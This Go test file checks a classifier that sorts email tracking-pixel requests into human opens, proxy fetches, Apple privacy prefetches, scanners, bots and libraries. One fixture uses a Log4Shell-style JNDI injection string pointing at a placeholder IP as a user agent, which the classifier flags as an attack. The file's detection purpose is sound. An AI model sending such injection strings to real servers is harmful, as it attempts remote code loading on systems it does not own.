package classify

import (
	"strings"
	"testing"
	"time"
)

const (
	uaChrome    = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
	uaOldChrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/58.0.3029.110 Safari/537.36"
	uaBare      = "Mozilla/5.0"
	uaWebKit    = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko)"
	uaIPhone    = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148"
	uaGmail     = "Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)"
	uaPrefetch  = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/42.0.2311.135 Safari/537.36 Edge/12.246 Mozilla/5.0"
	uaYahoo     = "YahooMailProxy; https://help.yahoo.com/kb/yahoo-mail-proxy-SLN28749.html"
	uaOutlook   = "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; Trident/7.0; Microsoft Outlook 16.0.17328; ms-office; MSOffice 16)"
	uaOWA       = "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/35 Safari/537.36"
	uaFirefox   = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:146.0) Gecko/20100101 Firefox/146.0"
	uaPhone     = "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/146.0.0.0 Mobile Safari/537.36"
	uaPresto    = "Opera/9.80 (Windows NT 6.1; U; de) Presto/2.10.229 Version/11.62"

	browserHeaders = DestImage | ModeNoCors | AcceptPresent | AcceptImageFirst | AcceptLanguagePresent | AcceptEncodingPresent
	scriptHeaders  = AcceptPresent | AcceptEncodingPresent
)

func sent(ago time.Duration, r Request) Request {
	r.SinceSend, r.SentKnown = ago, true
	return r
}

var ruleCases = []struct {
	name    string
	request Request
	class   Class
	reason  string
}{
	{"HEAD shows no image", Request{Method: "HEAD", UserAgent: uaOutlook, Network: "none"}, NotImage, "method"},
	{"the case of the method does not matter", Request{Method: "get", UserAgent: uaChrome, Network: "none"}, HumanDirect, "browser"},
	{"a prefetching browser shows nothing yet", Request{UserAgent: uaChrome, Headers: Prefetch | DestEmpty}, NotImage, "hdr_prefetch"},
	{"a preview is a prefetch", Request{UserAgent: uaChrome, Headers: Preview}, NotImage, "hdr_prefetch"},
	{"the pixel opened as a page is no open", Request{UserAgent: uaChrome, Headers: DestOther | ModeNavigate}, NotImage, "hdr_navigate"},
	{"asking for HTML first is opening a page", Request{UserAgent: uaOldChrome, Headers: AcceptPresent | AcceptHTMLFirst}, NotImage, "hdr_navigate"},
	{"an image asked for with HTML first is an image", Request{UserAgent: uaChrome, Network: "none", Headers: DestImage | AcceptHTMLFirst}, HumanDirect, "browser"},
	{"old Opera asks for HTML even for images", Request{UserAgent: uaPresto, Network: "none", Headers: AcceptHTMLFirst}, HumanDirect, "browser"},
	{"no Accept header overrules a mail client", Request{UserAgent: uaOutlook, Network: "none", Headers: AcceptHTMLFirst}, HumanDirect, "mail_client"},

	{"Gmail prefetches from Google", Request{UserAgent: uaPrefetch, ASNumber: 15169}, MachinePrefetch, "gmail_prefetch"},
	{"Gmail's prefetch from elsewhere is contested", Request{UserAgent: uaPrefetch, ASNumber: 64496, Network: "none"}, Unknown, "proxy_elsewhere"},
	{"Gmail's prefetch without an AS is contested", Request{UserAgent: uaPrefetch, Network: "none"}, Unknown, "proxy_elsewhere"},
	{"Gmail's proxy from Google is a person", Request{UserAgent: uaGmail, ASNumber: 15169, ProxyType: "hosting"}, ProxyHuman, "proxy_gmail"},
	{"Gmail's proxy is believed where no AS is known", Request{UserAgent: uaGmail}, ProxyHuman, "proxy_gmail"},
	{"Gmail's proxy from elsewhere is forged", Request{UserAgent: uaGmail, ASNumber: 64496, Network: "none"}, Unknown, "proxy_elsewhere"},
	{"Gmail's proxy is never judged by time", sent(time.Second, Request{UserAgent: uaGmail, ASNumber: 15169, Network: "hosting", Headers: scriptHeaders}), ProxyHuman, "proxy_gmail"},
	{"a proxy in a hosting network is still a proxy", sent(time.Second, Request{UserAgent: uaYahoo, Network: "hosting"}), ProxyHuman, "proxy_yahoo"},

	{"Fastmail's proxy stands behind a browser's name", Request{UserAgent: uaChrome + " FastmailUA/1.0", Network: "hosting"}, ProxyHuman, "proxy_fastmail"},

	{"MPP is the bare user agent from the relay", Request{UserAgent: uaBare, Network: "apple_relay"}, MachinePrefetch, "apple_mpp"},
	{"Fastly's description is enough for the relay", Request{UserAgent: uaBare, ProxyDescription: "apple"}, MachinePrefetch, "apple_mpp"},
	{"Fastly's type is enough for the relay", Request{UserAgent: uaBare, ProxyType: "consumer-privacy"}, MachinePrefetch, "apple_mpp"},
	{"MPP late is still MPP", sent(48*time.Hour, Request{UserAgent: uaBare, Network: "apple_relay"}), MachinePrefetch, "apple_mpp"},
	{"bare WebKit from the relay is weaker MPP", Request{UserAgent: uaWebKit, Network: "apple_relay"}, MachinePrefetch, "apple_mpp_webkit"},
	{"Safari through the relay is a person", Request{UserAgent: uaWebKit + " Version/17.4 Safari/605.1.15", Network: "apple_relay"}, HumanDirect, "browser"},
	{"relay is tested before hosting", Request{UserAgent: uaChrome, ProxyType: "hosting", ProxyDescription: "apple"}, HumanDirect, "browser"},

	{"a scanner that names itself", Request{UserAgent: "Barracuda Sentinel (EE)", Network: "none"}, SecurityScanner, "scanner_ua"},
	{"code instead of a name", Request{UserAgent: "${jndi:ldap://192.0.2.1/a}", Network: "none"}, SecurityScanner, "attack_ua"},
	{"Outlook in a scanner's network is the scanner", Request{UserAgent: uaOutlook, Network: "scanner:microsoft-365-protection"}, SecurityScanner, "scanner_net"},
	{"Outlook on the web fetches from Microsoft", Request{UserAgent: uaOWA, ASNumber: 8075, Network: "hosting"}, ProxyHuman, "proxy_outlook"},
	{"bare WebKit from Microsoft is Outlook's", Request{UserAgent: uaWebKit, ASNumber: 8075, Network: "hosting"}, ProxyHuman, "proxy_outlook"},
	{"a browser from Microsoft is not known", Request{UserAgent: uaChrome, ASNumber: 8075, Network: "none"}, Unknown, "shared_network"},
	{"an application's look at a link is no open", Request{UserAgent: "Microsoft Office Existence Discovery", Network: "none"}, NotImage, "app_probe"},
	{"a gateway that says what it is", Request{UserAgent: "Mail-Gateway/1.0", Network: "none"}, SecurityScanner, "scanner_ua"},
	{"the platform knows a bot", Request{UserAgent: uaChrome, Network: "none", BotDetection: "verified"}, Bot, "bot_detection"},
	{"the platform found no bot", Request{UserAgent: uaChrome, Network: "none", BotDetection: "none"}, HumanDirect, "browser"},
	{"a chat's preview", Request{UserAgent: "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", Network: "none"}, LinkPreview, "link_preview"},
	{"a browser without a screen", Request{UserAgent: strings.Replace(uaChrome, "Chrome/", "HeadlessChrome/", 1), Network: "none"}, Headless, "headless"},
	{"an image proxy without a known owner", Request{UserAgent: "github-camo (4b76e509)", Network: "none"}, Unknown, "image_proxy"},

	{"Outlook at home is a person", Request{UserAgent: uaOutlook, Network: "none"}, HumanDirect, "mail_client"},
	{"Outlook without network facts is a person", Request{UserAgent: uaOutlook}, HumanDirect, "mail_client"},
	{"a fast Outlook is a person", sent(time.Second, Request{UserAgent: uaOutlook, Network: "none", Headers: scriptHeaders}), HumanDirect, "mail_client"},
	{"Outlook in a data centre is not known", Request{UserAgent: uaOutlook, Network: "hosting"}, Unknown, "hosting"},
	{"a fast Outlook in a data centre is a sandbox", sent(time.Second, Request{UserAgent: uaOutlook, Network: "hosting"}), SecurityScanner, "fast_open"},
	{"a tool for a program's mail is no reader", Request{UserAgent: "outlook-checker/1.0", Network: "none"}, Bot, "bot_token"},
	{"a library", Request{UserAgent: "python-requests/2.32.3", Network: "none"}, HTTPLibrary, "http_library"},
	{"a program without a platform that names its library", Request{UserAgent: "Glorp 3 OkHttp/4.9.3", Network: "none"}, HTTPLibrary, "http_library"},
	{"a task where no browser speaks", Request{UserAgent: "Glorp link search", Network: "none"}, Bot, "bot_token"},
	{"a lone product and version", Request{UserAgent: "glorp/0.3", Network: "none"}, Unknown, "product_only"},
	{"an app that names its library after itself is not known", Request{UserAgent: "Tusky/17.0 Android/11 OkHttp/4.9.3", Network: "none"}, Unknown, "other"},
	{"a browser without images", Request{UserAgent: "Lynx/2.8.9rel.1 libwww-FM/2.14 SSL-MM/1.4.1 OpenSSL/1.1.1d", Network: "none"}, Unknown, "text_browser"},
	{"a machine in a browser's engine", Request{UserAgent: strings.Replace(uaChrome, "like Gecko)", "like Gecko; Glorp Console)", 1), Network: "none"}, Bot, "bot_shape"},
	{"a page transcoder there is a person's", Request{UserAgent: "Mozilla/5.0 (Linux; Android 4.2.1; Nexus 5) AppleWebKit/535.19 (KHTML, like Gecko; googleweblight) Chrome/38.0 Mobile Safari/535.19", Network: "none"}, HumanDirect, "browser"},
	{"an old browser with an unknown extension", Request{UserAgent: "Mozilla/5.0 (PlayStation 4) AppleWebKit/531.3 (KHTML, like Gecko; Glorp) SCEE/1.0", Network: "none"}, HumanDirect, "browser"},
	{"a phone whose name begins as a monitor's", Request{UserAgent: "Mozilla/5.0 (Linux; U; Android 4.1.1; it-it; SENSUELLE Build/JRO03C) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30", Network: "none"}, HumanDirect, "browser"},
	{"the monitor itself", Request{UserAgent: "Mozilla/5.0 (Linux; Android 9; Sensu/2.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0 Mobile Safari/537.36", Network: "none"}, Bot, "bot_token"},
	{"a phone whose maker is called like a language", Request{UserAgent: "TCL J706T_TD/1.0 Linux/3.4.5 Android/4.1.2 Browser/AppleWebKit534.30 Profile/MIDP-2.0", Network: "none"}, HumanDirect, "browser"},
	{"a chat's own window", Request{UserAgent: strings.Replace(uaChrome, "Chrome/", "Rocket.Chat/3.8.16 Chrome/", 1), Network: "none"}, HumanDirect, "browser"},
	{"a mail provider's proxy in a browser's name", Request{UserAgent: uaChrome + " (via secureurl.fwdcdn.com - mail.ukr.net proxy)", Network: "none"}, ProxyHuman, "proxy_mail"},
	{"mail in the name of a library", Request{UserAgent: "Glorp-Mail/3.5 python-requests/2.1", Network: "none"}, HTTPLibrary, "http_library"},
	{"mail in the name of a scanner", Request{UserAgent: "Glorpmail/1.0 (domain scanner)", Network: "none"}, Bot, "bot_token"},
	{"mail in the name of what is not known", Request{UserAgent: "Glorpmail/1.0 (domain scan)", Network: "none"}, Unknown, "mail_name"},
	{"a task beside a mail program, on a computer too", Request{UserAgent: "Thunderbird-Previewer/1.0 (X11; Linux x86_64)", Network: "none"}, Bot, "bot_token"},
	{"what Internet Explorer lists beside Outlook may be anything", Request{UserAgent: strings.Replace(uaOutlook, "ms-office", "Glorp Monitor; ms-office", 1), Network: "none"}, HumanDirect, "mail_client"},
	{"a word that people's programs use beside a mail program alone", Request{UserAgent: "Thunderbird test 3", Network: "none"}, Bot, "bot_token"},
	{"a mail program tests on a computer", Request{UserAgent: "Thunderbird/3 test (X11; Linux x86_64)", Network: "none"}, HumanDirect, "mail_client"},
	{"security behind a browser and a mail program", Request{UserAgent: uaChrome + " OutlookProtection/1.0", Network: "none"}, SecurityScanner, "scanner_ua"},
	{"a task built on a phone's network code", Request{UserAgent: "URLTester/1 CFNetwork/975.0.3 Darwin/18.2.0 (x86_64)", Network: "none"}, Bot, "bot_token"},
	{"a library before a phone's network code", Request{UserAgent: "curl/7.76.1 Dalvik/2.1.0", Network: "none"}, HTTPLibrary, "http_library"},
	{"an app before a phone's network code and a library", Request{UserAgent: "Glorp/3 curl/7.76.1 CFNetwork/975.0.3 Darwin/18.2.0", Network: "none"}, HumanDirect, "browser"},
	{"the robot's address in From", Request{UserAgent: uaChrome, Network: "none", Headers: browserHeaders, Signals: FromPresent}, Bot, "bot_token"},
	{"a mail program's From is its own", Request{UserAgent: uaOutlook, Network: "none", Signals: FromPresent}, HumanDirect, "mail_client"},
	{"an upgrade is asked for with a page", Request{UserAgent: uaOldChrome, Network: "none", Headers: scriptHeaders, Signals: UpgradeInsecure}, NotImage, "hdr_navigate"},
	{"a click opens a page", Request{UserAgent: uaOldChrome, Network: "none", Headers: scriptHeaders, Signals: UserActivated}, NotImage, "hdr_navigate"},
	{"an image with an upgrade is an image", Request{UserAgent: uaChrome, Network: "none", Headers: browserHeaders, Signals: UpgradeInsecure}, HumanDirect, "browser"},
	{"no new browser asks for anything where it wants an image", Request{UserAgent: uaChrome, Network: "none", Headers: browserHeaders &^ AcceptImageFirst, Signals: AcceptAnything}, Unknown, "lacks_headers"},
	{"an old browser does", Request{UserAgent: uaOldChrome, Network: "none", Headers: browserHeaders &^ AcceptImageFirst, Signals: AcceptAnything}, HumanDirect, "browser"},
	{"Apple Mail does", Request{UserAgent: uaIPhone, Network: "none", Headers: scriptHeaders, Signals: AcceptAnything}, HumanDirect, "apple_mail_direct"},
	{"no browser asks for a part of an image", Request{UserAgent: uaChrome, Network: "none", Headers: browserHeaders, Signals: RangePresent}, Unknown, "lacks_headers"},
	{"Node's fetch in Chrome's name says how, and not where to", Request{UserAgent: uaChrome, Network: "none", Headers: ModeOther | AcceptPresent | AcceptImageFirst | AcceptLanguagePresent | AcceptEncodingPresent}, Unknown, "lacks_headers"},
	{"a webmail's script fetches for a person", Request{UserAgent: uaChrome, Network: "none", Headers: DestEmpty | ModeOther | AcceptPresent | AcceptLanguagePresent, Signals: AcceptAnything}, HumanDirect, "browser"},
	{"a script's request is no image's", Request{UserAgent: uaChrome, Network: "none", Headers: browserHeaders, Signals: ScriptRequest}, Unknown, "lacks_headers"},
	{"an app's name is its web view's", Request{UserAgent: uaChrome, Network: "none", Headers: browserHeaders, Signals: AppNamed}, HumanDirect, "browser"},
	{"Firefox sends no client hints", Request{UserAgent: uaFirefox, Network: "none", Headers: browserHeaders | ClientHintsPresent}, Unknown, "lacks_headers"},
	{"Safari sends no client hints", Request{UserAgent: uaWebKit + " Version/17.4 Safari/605.1.15", Network: "none", Headers: browserHeaders | ClientHintsPresent}, Unknown, "lacks_headers"},
	{"Chrome sends client hints", Request{UserAgent: uaChrome, Network: "none", Headers: browserHeaders | ClientHintsPresent}, HumanDirect, "browser"},
	{"Firefox without them", Request{UserAgent: uaFirefox, Network: "none", Headers: browserHeaders}, HumanDirect, "browser"},
	{"no computer's hint is mobile", Request{UserAgent: uaChrome, Network: "none", Headers: browserHeaders | ClientHintsPresent, Signals: MobileHint}, Unknown, "lacks_headers"},
	{"a phone's is", Request{UserAgent: uaPhone, Network: "none", Headers: browserHeaders | ClientHintsPresent, Signals: MobileHint}, HumanDirect, "browser"},
	{"a television's browser", Request{UserAgent: "HbbTV/1.2.1 (;Panasonic;Glorp 2013;3.838;1101-0003 0004-0000;)", Network: "none"}, HumanDirect, "browser"},
	{"a crawler", Request{UserAgent: "Zorblex crawler", Network: "none"}, Bot, "bot_token"},
	{"a crawler with a mail client's name", Request{UserAgent: "Thunderbird-like crawler bot", Network: "none"}, Bot, "bot_token"},
	{"an address for complaints", Request{UserAgent: uaChrome + " (+https://example.com/about)", Network: "none"}, Bot, "bot_address"},
	{"compatible with nothing", Request{UserAgent: "Mozilla/5.0 (compatible; Glorpulator/3.1)", Network: "none"}, Bot, "bot_shape"},

	{"fast from a data centre", sent(9*time.Second, Request{UserAgent: uaChrome, Network: "hosting", Headers: browserHeaders}), SecurityScanner, "fast_open"},
	{"fast and without a browser's headers", sent(9*time.Second, Request{UserAgent: uaChrome, Network: "none", Headers: scriptHeaders}), SecurityScanner, "fast_open"},
	{"fast with a browser's headers is a person", sent(time.Second, Request{UserAgent: uaChrome, Network: "none", Headers: browserHeaders}), HumanDirect, "browser"},
	{"fast without any recorded header is a person", sent(time.Second, Request{UserAgent: uaChrome, Network: "none"}), HumanDirect, "browser"},
	{"an old browser has no such headers", sent(time.Second, Request{UserAgent: uaOldChrome, Network: "none", Headers: scriptHeaders}), HumanDirect, "browser"},
	{"slow without a browser's headers is not known", sent(10*time.Second, Request{UserAgent: uaChrome, Network: "none", Headers: scriptHeaders}), Unknown, "lacks_headers"},
	{"a time that is not known says nothing", Request{UserAgent: uaChrome, Network: "none", Headers: browserHeaders, SinceSend: time.Second}, HumanDirect, "browser"},
	{"no new browser speaks HTTP/1.0", Request{UserAgent: uaChrome, Network: "none", Protocol: "HTTP/1.0", Headers: browserHeaders}, Unknown, "lacks_headers"},
	{"no new browser offers no protocol", Request{UserAgent: uaChrome, Network: "none", JA4: "t13d181000_8daaf6152771_b186095e22b6"}, Unknown, "lacks_headers"},
	{"a new browser's handshake", Request{UserAgent: uaChrome, Network: "none", JA4: "t13d1516h2_8daaf6152771_b186095e22b6", Protocol: "HTTP/2"}, HumanDirect, "browser"},
	{"Safari skipped a version", Request{UserAgent: uaWebKit + " Version/21.0 Safari/605.1.15", Network: "none"}, Unknown, "never_was"},
	{"a product that no browser has", Request{UserAgent: uaChrome + " Glorp/1.0", Network: "none"}, Unknown, "unknown_product"},
	{"an app's name behind its web view", Request{UserAgent: uaIPhone + " Glorp/1.0", Network: "none"}, HumanDirect, "browser"},
	{"before the send time is fast", sent(-time.Second, Request{UserAgent: uaChrome, Network: "hosting"}), SecurityScanner, "fast_open"},
	{"fast from a provider's network", sent(9*time.Second, Request{UserAgent: uaChrome, ASNumber: 8075, Network: "none", Headers: browserHeaders}), SecurityScanner, "fast_open"},
	{"a provider's network has the narrow window", sent(11*time.Second, Request{UserAgent: uaChrome, ASNumber: 8075, Network: "none", Headers: browserHeaders}), Unknown, "shared_network"},
	{"Apple's own user agent may be its prefetch", sent(time.Second, Request{UserAgent: "Mozilla/5.0", ASNumber: 13335, Network: "none"}), Unknown, "apple_mail_unplaced"},
	{"a mail gateway's network has the wider window", sent(4*time.Minute, Request{UserAgent: uaChrome, ASNumber: 22843, Network: "none", Headers: browserHeaders}), SecurityScanner, "fast_open"},
	{"later it may be a person in an isolated browser", sent(5*time.Minute, Request{UserAgent: uaChrome, ASNumber: 22843, Network: "none", Headers: browserHeaders}), Unknown, "shared_network"},
	{"a lone product in a data centre is a script", Request{UserAgent: "glorp/0.3", Network: "hosting"}, HTTPLibrary, "http_library"},
	{"a data centre early", sent(4*time.Minute, Request{UserAgent: uaChrome, Network: "hosting"}), SecurityScanner, "hosting"},
	{"a data centre late", sent(5*time.Minute, Request{UserAgent: uaChrome, Network: "hosting"}), Unknown, "hosting"},
	{"a data centre without a send time", Request{UserAgent: uaChrome, ProxyType: "hosting", ProxyDescription: "cloud"}, Unknown, "hosting"},
	{"a web security service is where staff browse", Request{UserAgent: uaChrome, ProxyType: "hosting", ProxyDescription: "cloud-security"}, HumanDirect, "browser"},
	{"the recorded network goes before the proxy fields", Request{UserAgent: uaChrome, Network: "none", ProxyType: "hosting"}, HumanDirect, "browser"},

	{"webmail around the image", Request{UserAgent: "Paperboy for Windows", RefererHost: "Outlook.Live.com", Network: "none"}, HumanDirect, "referer_webmail"},
	{"no browser that shows a webmail leaves its name out", Request{RefererHost: "outlook.live.com", Network: "none"}, Unknown, "other"},
	{"bare Mozilla off the relay is Apple Mail", Request{UserAgent: uaBare, Network: "none"}, HumanDirect, "apple_mail_direct"},
	{"bare Mozilla without network facts is not known", Request{UserAgent: uaBare}, Unknown, "apple_mail_unplaced"},
	{"bare Mozilla in a data centre is not known", Request{UserAgent: uaBare, Network: "hosting"}, Unknown, "hosting"},
	{"Apple Mail on a phone", Request{UserAgent: uaIPhone, Network: "none"}, HumanDirect, "apple_mail_direct"},
	{"a phone app's network code", Request{UserAgent: "Dalvik/2.1.0 (Linux; U; Android 13; Pixel 7)", Network: "none"}, HumanDirect, "browser"},
	{"a program that calls itself mail is not known", Request{UserAgent: "GrandpaMail/4.2 (Linux)", Network: "none"}, Unknown, "mail_name"},
	{"no user agent proves nothing", Request{Network: "none"}, Unknown, "other"},
}

func TestRules(t *testing.T) {
	used := map[string]bool{"": true} // the proxies bring their own reasons
	for _, c := range ruleCases {
		used[c.reason] = true
		if got := Judge(&c.request); got.Class != c.class || got.Reason != c.reason {
			t.Errorf("%s: got %s/%s, want %s/%s", c.name, got.Class, got.Reason, c.class, c.reason)
		}
	}
	for i := range rules {
		if !used[rules[i].reason] {
			t.Errorf("no case for rule %q", rules[i].reason)
		}
	}
}

func TestEveryRuleCanDecide(t *testing.T) {
	agents := readAgents(t)
	fired := map[int]bool{}
	note := func(r *Request) {
		seen := read(r.UserAgent)
		known := seen.known(r)
		for i := range rules {
			if rules[i].fits(known) {
				fired[i] = true
				return
			}
		}
	}
	for i := range ruleCases {
		note(&ruleCases[i].request)
	}
	for _, a := range agents {
		note(&Request{UserAgent: a.userAgent, Network: NetworkNone})
	}
	for i := range rules {
		if !fired[i] {
			t.Errorf("rule %d (%s) never decides: no test, or hidden by the rules before it", i, rules[i].reason)
		}
	}
}

func TestMPPReasonsBeginAlike(t *testing.T) {
	for i := range rules {
		if r := &rules[i]; strings.HasPrefix(r.reason, "apple_mpp") != (r.class == MachinePrefetch && r.all&onRelay != 0) {
			t.Errorf("rule %q: the views count machine_prefetch whose reason begins apple_mpp", r.reason)
		}
	}
}
